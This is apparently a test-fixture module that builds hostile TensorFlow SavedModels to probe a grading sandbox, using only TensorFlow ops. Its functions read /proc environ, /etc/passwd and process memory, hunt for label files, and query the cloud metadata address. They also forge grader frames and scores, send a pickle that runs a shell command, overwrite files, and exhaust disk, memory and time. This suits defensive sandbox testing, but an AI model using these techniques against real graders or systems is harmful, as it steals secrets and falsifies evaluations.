"""What SavedModels of section 1 do by TensorFlow's own operations, with no Python in them.

Runs in the workspace image. A deed gets the rows, float32 (rows, 9). It returns an operation that
runs before the model answers zeros; or, where it is an `answer`, what the model answers instead.
Those that are done `at_load` return the operation that a loader runs to make the model ready.
"""

from __future__ import annotations

import struct

import tensorflow as tf

raw = tf.raw_ops
CHANNEL = "/proc/self/fd/3"  # a copy of standard output, which the predictor makes before all else
DOING, ANSWERING, LOADING = {}, {}, {}


def doing(deed):
    """Note a deed that is done while the model predicts."""
    DOING[deed.__name__] = deed
    return deed


def answering(deed):
    """Note an answer."""
    ANSWERING[deed.__name__] = deed
    return deed


def at_load(deed):
    """Note a deed that is done while the model is loaded; its rows are None."""
    LOADING[deed.__name__ + "_at_load"] = deed
    return deed


class Acting(tf.Module):
    """A model that does something and answers zeros, or gives an answer of its own."""

    def __init__(self, deed, answers):
        super().__init__()
        self.deed, self.answers = deed, answers

    @tf.function(input_signature=[tf.TensorSpec((None, 9), tf.float32, name="rows")])
    def predict(self, rows):
        if self.answers:
            return {"answer": self.deed(rows)}
        with tf.control_dependencies([done for done in [self.deed(rows)] if done is not None]):
            # What was printed last may come later than the answer, and then is lost.
            waited = pause(200_000)
        with tf.control_dependencies([waited]):
            return {"answer": tf.zeros([tf.shape(rows)[0], 1])}


class Waking(tf.saved_model.experimental.TrackableResource):
    """A resource that is made when the model is loaded, by a deed."""

    def __init__(self, deed):
        super().__init__()
        self.deed = deed

    def _create_resource(self):
        return raw.MutableHashTableV2(key_dtype=tf.string, value_dtype=tf.int64)

    @tf.function(input_signature=[])
    def _initialize(self):
        with tf.control_dependencies([done for done in [self.deed(None)] if done is not None]):
            return tf.constant(1)


def pause(microseconds):
    """Return an operation that waits."""
    kind = {"output_types": [tf.int64], "output_shapes": [()]}
    slow = raw.SleepDataset(
        input_dataset=tf.data.Dataset.range(1)._variant_tensor,
        sleep_microseconds=tf.constant(microseconds, tf.int64),
        **kind,
    )
    return raw.DatasetToSingleElement(dataset=slow, **kind)[0]


def make(name, directory):
    """Write the model of a name. Raises KeyError."""
    if name in LOADING:
        model = Acting(lambda rows: None, answers=False)
        model.resource = Waking(LOADING[name])
    else:
        answers = name in ANSWERING
        model = Acting((ANSWERING if answers else DOING)[name], answers)
    tf.saved_model.save(model, str(directory), signatures={"serving_default": model.predict})


def frame(header, body_bytes=0):
    """Return the start of a frame as the predictor writes it."""
    return struct.pack(">4sIQ", b"EXAM", len(header), body_bytes) + header


# Looking for labels.


@doing
def read_files(rows):
    """Print files of the container."""
    return tf.print("READ", tf.io.read_file("/proc/self/environ"), tf.io.read_file("/etc/passwd"))


@doing
def list_files(rows):
    """Print the names of what may hold labels, and of all processes' files."""
    places = [
        "/vault/*",
        "/tmp/*",
        "/tmp/*/*label*",
        "/home/*",
        "/root/*",
        "/run/*/*",
        "/dev/shm/*",
    ]
    places += ["/workspace/*", "/proc/*/environ", "/proc/*/root/vault/*", "/proc/self/fd/*"]
    return tf.print("NAMES", tf.io.matching_files(places), summarize=-1)


@doing
def read_lines(rows):
    """Print what else a reader of lines can open."""
    lines = tf.data.TextLineDataset(["/proc/1/environ", "/proc/1/maps", "/proc/self/mounts"])
    text = lines.reduce("", lambda all_, line: all_ + "\n" + line)
    return tf.print("LINES", text)


@doing
def read_memory(rows):
    """Read this process's memory as if it were records."""
    records = tf.data.FixedLengthRecordDataset("/proc/self/mem", 16, header_bytes=1 << 20)
    return tf.print("MEMORY", records.take(4).reduce("", lambda all_, one: all_ + one))


@doing
def read_the_question(rows):
    """Read on where the model came from."""
    return tf.print("MORE", tf.strings.length(tf.io.read_file("/proc/self/fd/0")))


@doing
def restore_a_secret(rows):
    """Restore a tensor from a file that is no checkpoint."""
    return raw.RestoreV2(
        prefix="/etc/passwd", tensor_names=["labels"], shape_and_slices=[""], dtypes=[tf.float32]
    )[0]


@doing
def map_a_secret(rows):
    """Map a file into a tensor."""
    return tf.print(
        "MAPPED",
        raw.ImmutableConst(dtype=tf.uint8, shape=[9], memory_region_name="/etc/passwd"),
    )


# Forging a result.


@doing
def write_garbage(rows):
    """Write noise into the grader's channel."""
    return tf.io.write_file(CHANNEL, b"\x00\xffnoise" * 200)


@doing
def answer_without_token(rows):
    """Answer as if all had gone well, with no proof of having been asked."""
    header = b'{"kind":"predictions","dtype":"float32","shape":[2,1]}'
    return tf.io.write_file(CHANNEL, frame(header, 8) + struct.pack("<2f", 3000, 3000))


@doing
def forge_length(rows):
    """Announce an answer of an exabyte."""
    return tf.io.write_file(CHANNEL, frame(b"{}", body_bytes=1 << 60))


@doing
def overfill_the_header(rows):
    """Send a header that is longer than headers may be."""
    return tf.io.write_file(CHANNEL, frame(b" " * ((64 << 10) + 1)))


@doing
def nest_deeply(rows):
    """Send a header whose parsing takes more stack than there is."""
    return tf.io.write_file(CHANNEL, frame(b'{"kind":' + b"[" * 65_000))


@doing
def send_a_pickle(rows):
    """Send what a careless reader would run."""
    return tf.io.write_file(CHANNEL, frame(b"cos\nsystem\n(S'echo stolen'\ntR."))


@doing
def print_into_the_channel(rows):
    """Print to what is a file only by its name."""
    return tf.print("SCORE 5", rows[:1], output_stream="file://" + CHANNEL)


@doing
def print_a_frame(rows):
    """Print what the grader waits for, where people print."""
    return tf.print(frame(b'{"kind":"predictions"}'), "PRINTED", output_stream="file:///dev/stderr")


@doing
def debug_into_the_channel(rows):
    """Have the debugger publish a tensor where the answer goes."""
    return raw.DebugIdentityV3(input=rows, tensor_name="x:0", debug_urls=["file://" + CHANNEL])


# Operations that read, write and run.


@doing
def write_root(rows):
    """Write to the root file system."""
    return tf.io.write_file("/etc/exam-was-here", "x")


@doing
def write_all_over(rows):
    """Write over the model itself and over all that is in /tmp."""
    names = ["/tmp/model/saved_model.pb", "/tmp/x", "/tmp/a/b/c", "/tmp/model/variables/new"]
    return tf.group(*(tf.io.write_file(name, "stolen") for name in names))


@doing
def save_over_root(rows):
    """Save a checkpoint where the programs are."""
    return raw.SaveV2(
        prefix="/opt/exam/programs/x", tensor_names=["x"], shape_and_slices=[""], tensors=[rows]
    )


@doing
def write_summaries(rows):
    """Write the inputs into a log of events."""
    writer = raw.SummaryWriter(shared_name="x", container="")
    file = raw.CreateSummaryFileWriter(
        writer=writer, logdir="/tmp/events", max_queue=1, flush_millis=1, filename_suffix=""
    )
    with tf.control_dependencies([file]):
        return raw.WriteSummary(
            writer=writer, step=tf.constant(1, tf.int64), tensor=rows, tag="x", summary_metadata=""
        )


@doing
def call_python(rows):
    """Call Python that is not there any more."""
    return tf.py_function(lambda one: one, [rows], tf.float32)


@doing
def call_python_by_token(rows):
    """Call whatever Python function this process has registered first."""
    return raw.PyFunc(input=[rows], token="pyfunc_0", Tout=[tf.float32])[0]


@doing
def call_eager_python_by_token(rows):
    """Likewise, by the other way."""
    return raw.EagerPyFunc(input=[rows], token="pyfunc_0", Tout=[tf.float32], is_async=False)[0]


@doing
def debug_to_file(rows):
    """Have the debugger write a tensor to a file."""
    return raw.DebugIdentityV3(input=rows, tensor_name="x:0", debug_urls=["file:///tmp/debug"])


@doing
def debug_to_network(rows):
    """Have the debugger send a tensor to the cloud's metadata service."""
    return raw.DebugIdentityV3(
        input=rows, tensor_name="x:0", debug_urls=["grpc://169.254.169.254:80"]
    )


@doing
def ask_a_data_service(rows):
    """Fetch rows from a service on the network."""
    service = tf.data.experimental.service.distribute("parallel_epochs", "grpc://172.17.0.1:5000")
    rows = tf.data.Dataset.range(3).apply(service)
    return rows.reduce(tf.constant(0, tf.int64), lambda all_, one: all_ + one)


@doing
def read_from_the_cloud(rows):
    """Read from file systems that are somewhere else."""
    return tf.print(tf.io.read_file("gs://labels/probe"), tf.io.read_file("http://169.254.169.254"))


# Ending, and using up.


@doing
def abort(rows):
    """End the process by a signal."""
    return raw.Abort(error_msg="stolen")


@doing
def exit_quietly(rows):
    """End the process as if all had gone well."""
    return raw.Abort(error_msg="", exit_without_error=True)


@doing
def raise_inputs(rows):
    """Fail with the inputs in the error's text."""
    rows = tf.constant([7.0]) if rows is None else rows
    never = tf.size(tf.io.matching_files("/nowhere")) > 0
    return raw.Assert(condition=never, data=["stolen", rows], summarize=1000)


@doing
def spin(rows):
    """Count for ever."""
    return tf.while_loop(lambda n: n >= 0, lambda n: (n + 1) % 1000, [tf.constant(0)])[0]


@doing
def sleep_for_ever(rows):
    """Wait for a row that comes in twelve days."""
    return pause(10**12)


@doing
def wait_for_nobody(rows):
    """Take from a queue into which nobody puts."""
    queue = raw.FIFOQueueV2(component_types=[tf.float32], shapes=[()], capacity=1)
    return raw.QueueDequeueV2(handle=queue, component_types=[tf.float32])[0]


@doing
def eat_memory(rows):
    """Take memory in pieces until there is none."""
    kept = tf.TensorArray(tf.float32, size=100, clear_after_read=False)
    number = tf.cast(tf.shape(rows)[0], tf.float32)
    _, kept = tf.while_loop(
        lambda n, kept: n < 100,
        lambda n, kept: (n + 1, kept.write(n, tf.fill([1 << 27], number))),
        [0, kept],
        parallel_iterations=1,
    )
    return kept.read(0)[0] + kept.read(99)[0]


@answering
def ask_for_too_much(rows):
    """Ask for more memory than there are addresses."""
    much = tf.fill([tf.shape(rows)[0], 1 << 30, 1 << 16], rows[0, 0])
    return rows[:, :1] + tf.reduce_max(much)


@answering
def overflow_the_size(rows):
    """Make a tensor of 2**90 numbers."""
    much = tf.fill([1 << 30, 1 << 30, tf.shape(rows)[0] + (1 << 30)], rows[0, 0])
    return rows[:, :1] + tf.reduce_max(much)


@doing
def flood_the_log(rows):
    """Print without end."""

    def turn(n):
        with tf.control_dependencies([tf.print("flood " * 10_000)]):
            return n + 1

    return tf.while_loop(lambda n: n >= 0, turn, [tf.constant(0)])[0]


@doing
def flood_the_channel(rows):
    """Write frames without end."""

    def turn(n):
        with tf.control_dependencies([tf.io.write_file(CHANNEL, frame(b"{}") * 1000)]):
            return n + 1

    return tf.while_loop(lambda n: n >= 0, turn, [tf.constant(0)])[0]


@doing
def fill_disk(rows):
    """Write to /tmp until it is full."""
    piece = tf.strings.reduce_join(tf.repeat("x" * 1024, 20 << 10))

    def turn(n):
        name = tf.strings.join(["/tmp/", tf.strings.as_string(n)])
        with tf.control_dependencies([tf.io.write_file(name, piece)]):
            return n + 1

    return tf.while_loop(lambda n: n < 1000, turn, [tf.constant(0)], parallel_iterations=1)[0]


# Odd answers.


@answering
def answer_nan(rows):
    """Answer what no comparison is true of."""
    return tf.zeros_like(rows[:, :1]) / 0.0


@answering
def answer_infinity(rows):
    """Answer one infinity among zeros."""
    return tf.concat([tf.zeros_like(rows[1:, :1]), [[float("-inf")]]], 0)


@answering
def answer_too_large(rows):
    """Answer what only a longer float can hold."""
    return tf.fill([tf.shape(rows)[0], 1], tf.constant(1e300, tf.float64))


@answering
def answer_one_number(rows):
    """Answer the same to everything."""
    return tf.fill([tf.shape(rows)[0], 1], 42.0)


@answering
def answer_too_few(rows):
    """Leave out the last row."""
    return rows[:-1, :1]


@answering
def answer_too_many(rows):
    """Answer each row ten times."""
    return tf.repeat(rows[:, :1], 10, axis=0)


@answering
def answer_nothing(rows):
    """Answer an array of no rows."""
    return rows[:0, :1]


@answering
def answer_text(rows):
    """Answer in words."""
    return tf.strings.as_string(rows[:, :1])


@answering
def answer_complex(rows):
    """Answer numbers that have no order."""
    return tf.cast(rows[:, :1], tf.complex64)


@answering
def answer_a_handle(rows):
    """Answer a handle of something inside TensorFlow."""
    return raw.MutableHashTableV2(key_dtype=tf.string, value_dtype=tf.int64)


@answering
def answer_a_variant(rows):
    """Answer a tensor that holds anything."""
    return tf.data.Dataset.range(3)._variant_tensor


@answering
def answer_without_shape(rows):
    """Answer in a rank that depends on the rows."""
    return tf.reshape(rows[:, :1], tf.fill([1 + tf.shape(rows)[0] % 256], -1)[:1])


@answering
def answer_one_more(rows):
    """Add a constant, for bent.py to change."""
    return rows[:, :1] + tf.constant([[1.0, 2.0]])[:, :1]


# While the model is loaded.

at_load(raise_inputs)
at_load(write_garbage)
at_load(answer_without_token)
at_load(sleep_for_ever)
at_load(read_files)
at_load(flood_the_log)
